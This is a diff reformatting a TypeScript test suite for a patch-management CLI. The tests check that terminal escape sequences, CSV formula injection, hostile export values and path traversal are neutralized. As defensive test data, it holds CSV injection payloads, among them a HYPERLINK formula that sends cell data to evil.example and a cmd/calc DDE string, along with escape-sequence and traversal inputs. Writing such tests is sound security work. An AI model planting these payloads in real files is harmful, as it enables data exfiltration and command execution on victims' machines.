@@ -72,12 +72,19 @@ describe('hostile: terminal output of validate and status', () => {
         const r = runCli([command, dir, ...AS_OF], { tty });
         // The only escape sequences are our own colours (SGR `ESC [ n m`), and only on a TTY.
         const withoutColour = r.stdout.replace(/\u001b\[\d+m/g, '');
-        assert.equal(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(withoutColour), false, `${command}: a raw control character reached the terminal:\n${JSON.stringify(r.stdout)}`);
+        assert.equal(
+          /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(withoutColour),
+          false,
+          `${command}: a raw control character reached the terminal:\n${JSON.stringify(r.stdout)}`,
+        );
         if (!tty) assert.equal(withoutColour, r.stdout, 'no colour off a TTY');
         // A file cannot add a line: the fake summary stays inside its own line, escaped.
         const fake = r.stdout.split('\n').filter((line) => /^0 errors, 0 warnings/.test(line));
         assert.deepEqual(fake, [], `${command}: a file value started its own line`);
-        assert.match(r.stdout, command === 'status' ? /Fix\\u001b\[2J\\u001b\]0;pwned\\u0007 now\\u000d\\u000a0 errors/ : /unknown field `bad\\u001b\[31mkey\\u0007`/);
+        assert.match(
+          r.stdout,
+          command === 'status' ? /Fix\\u001b\[2J\\u001b\]0;pwned\\u0007 now\\u000d\\u000a0 errors/ : /unknown field `bad\\u001b\[31mkey\\u0007`/,
+        );
       }
     });
   }
@@ -91,7 +98,17 @@ describe('hostile: terminal output of validate and status', () => {
 
 describe('hostile: report --format csv from the CLI', () => {
   it('cells starting with = + - @ (and their full-width forms, tab, CR) are neutralized; a plain negative number is not — guards: csvCell/neutralizeFormula in src/core/report/escape.ts', () => {
-    const titles = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '＝1+1', ' =1+1', '-3'];
+    const titles = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3+cmd|x',
+      '@SUM(1+1)*cmd|x',
+      '\t=1+1',
+      '\r=1+1',
+      '＝1+1',
+      ' =1+1',
+      '-3',
+    ];
     const files: Record<string, string> = { ...BASE };
     titles.forEach((title, i) => (files[`p${i}.plan.yaml`] = plan({ id: `CSV-${i}` }).replace('title: Test plan', `title: ${q(title)}`)));
     const dir = tempDir(files);
@@ -117,15 +134,21 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (c === '"') quoted = false;
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(cell), (cell = '');
-    else if (c === '\r' && text[i + 1] === '\n') {
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
       row.push(cell);
       rows.push(row);
-      (row = []), (cell = ''), i++;
+      row = [];
+      cell = '';
+      i++;
     } else cell += c;
   }
   return rows;
@@ -144,7 +167,15 @@ const NASTY = [
   '   ',
 ];
 
-const text = () => fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 60 }), fc.string({ unit: fc.constantFrom('"', "'", '\\', '\n', '\r', ';', ',', ':', '#', '[', ']', '{', '}', '=', '\t', '\u0000', '\ud800', 'a', ' '), maxLength: 30 }));
+const text = () =>
+  fc.oneof(
+    fc.constantFrom(...NASTY),
+    fc.string({ unit: 'binary', maxLength: 60 }),
+    fc.string({
+      unit: fc.constantFrom('"', "'", '\\', '\n', '\r', ';', ',', ':', '#', '[', ']', '{', '}', '=', '\t', '\u0000', '\ud800', 'a', ' '),
+      maxLength: 30,
+    }),
+  );
 const vulnId = () => fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', minLength: 1, maxLength: 30 })).filter((s) => s.trim().length > 0);
 
 describe('hostile: exports built from hostile exception reasons and ids parse back to the same strings', function () {
@@ -157,8 +188,16 @@ describe('hostile: exports built from hostile exception reasons and ids parse ba
         const files = {
           ...BASE,
           'patchops.yaml': SETTINGS.replace('name: Test org', () => `name: ${q(`Org ${name}`)}`),
-          'a.plan.yaml': plan({ id: 'PLAN-X', affects: '[payroll, pilot]', vulns: `  - { id: ${q(vuln)}, severity: high, discovered: 2026-11-18T09:00 }` }).replace('title: Test plan', () => `title: ${q(`T ${title}`)}`),
-          'e.exception.yaml': exception('EXC-X', { vulns: [vuln], reason: `R ${reason}`, controls: controls.length ? controls.map((c) => `C ${c}`) : undefined }),
+          'a.plan.yaml': plan({
+            id: 'PLAN-X',
+            affects: '[payroll, pilot]',
+            vulns: `  - { id: ${q(vuln)}, severity: high, discovered: 2026-11-18T09:00 }`,
+          }).replace('title: Test plan', () => `title: ${q(`T ${title}`)}`),
+          'e.exception.yaml': exception('EXC-X', {
+            vulns: [vuln],
+            reason: `R ${reason}`,
+            controls: controls.length ? controls.map((c) => `C ${c}`) : undefined,
+          }),
         };
         const evaluation = evaluate(assembleModel(Object.entries(files).map(([f, t]) => loadFile(f, t))), { asOf: AS_OF_MS });
         const exc = evaluation.exceptions.find((e) => e.id === 'EXC-X');
@@ -193,9 +232,18 @@ describe('hostile: exports built from hostile exception reasons and ids parse ba
         const calendar = new ICAL.Component(ICAL.parse(renderExport('ics', evaluation)));
         const events = calendar.getAllSubcomponents('vevent');
         const domain = `${slug(`Org ${name}`)}.patchops.invalid`;
-        assert.deepEqual(events.map((e: ICAL.Component) => e.getFirstPropertyValue('uid')), [`plan-PLAN-X@${domain}`, `exception-EXC-X@${domain}`]);
+        assert.deepEqual(
+          events.map((e: ICAL.Component) => e.getFirstPropertyValue('uid')),
+          [`plan-PLAN-X@${domain}`, `exception-EXC-X@${domain}`],
+        );
         for (const e of events) {
-          assert.deepEqual(e.getAllProperties().map((p: ICAL.Property) => p.name).sort(), ['categories', 'description', 'dtstamp', 'dtstart', 'summary', 'transp', 'uid']);
+          assert.deepEqual(
+            e
+              .getAllProperties()
+              .map((p: ICAL.Property) => p.name)
+              .sort(),
+            ['categories', 'description', 'dtstamp', 'dtstart', 'summary', 'transp', 'uid'],
+          );
         }
         const description = String(events[1].getFirstPropertyValue('description'));
         assert.ok(description.split('\n').includes(`Reason: ${icsText(oneLine(data.reason))}`), description);
@@ -211,20 +259,42 @@ const YAML_PRINTABLE = /^[\t\n\r\u0020-\u007e\u0085\u00a0-\ud7ff\ue000-\ufffd\u{
 const wellFormed = (s: string): string => s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
 /** What iCalendar TEXT can carry: controls but tab are dropped (RFC 5545 §3.3.11). */
 const icsText = (s: string): string => s.replace(/[\u0000-\u0008\u000a-\u001f\u007f]/g, '');
-const slug = (s: string): string => s.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-+|-+$/g, '').slice(0, 40);
+const slug = (s: string): string =>
+  s
+    .toLowerCase()
+    .replace(/[^a-z0-9]+/g, '-')
+    .replace(/^-+|-+$/g, '')
+    .slice(0, 40);
 
 describe('hostile: paths named in files are never opened', () => {
   it('`evidence: ../../secret`, absolute paths and file: URLs are text: the CLI reads nothing outside the workspace — guards: the CLI reading only listed workspace files', () => {
     const outside = tempDir({ 'secret.txt': 'TOKEN=hunter2\n' });
     const ws = tempDir({
       ...BASE,
-      'a.plan.yaml': plan({ id: 'EVIDENCE', testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(`../${path.basename(outside)}/secret.txt`)} }` }),
-      'b.plan.yaml': plan({ id: 'ABSOLUTE', testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(path.join(outside, 'secret.txt'))} }` }),
-      'c.plan.yaml': plan({ id: 'URL', testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(`file://${path.join(outside, 'secret.txt')}`)} }` }),
+      'a.plan.yaml': plan({
+        id: 'EVIDENCE',
+        testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(`../${path.basename(outside)}/secret.txt`)} }`,
+      }),
+      'b.plan.yaml': plan({
+        id: 'ABSOLUTE',
+        testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(path.join(outside, 'secret.txt'))} }`,
+      }),
+      'c.plan.yaml': plan({
+        id: 'URL',
+        testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(`file://${path.join(outside, 'secret.txt')}`)} }`,
+      }),
     });
     const out = path.join(ws, 'report.html');
     const realWs = fs.realpathSync(ws);
-    const commands = [['validate', ws], ['status', ws], ['report', ws, '--format', 'html', '--out', out], ['report', ws, '--format', 'md'], ['report', ws, '--format', 'json'], ['export', 'openvex', ws], ['export', 'ics', ws]];
+    const commands = [
+      ['validate', ws],
+      ['status', ws],
+      ['report', ws, '--format', 'html', '--out', out],
+      ['report', ws, '--format', 'md'],
+      ['report', ws, '--format', 'json'],
+      ['export', 'openvex', ws],
+      ['export', 'ics', ws],
+    ];
     const { calls, result } = watchFs(() => commands.map((c) => runCli([...c, ...AS_OF])));
     for (const r of result) {
       assert.ok(r.code <= 1, r.stderr);
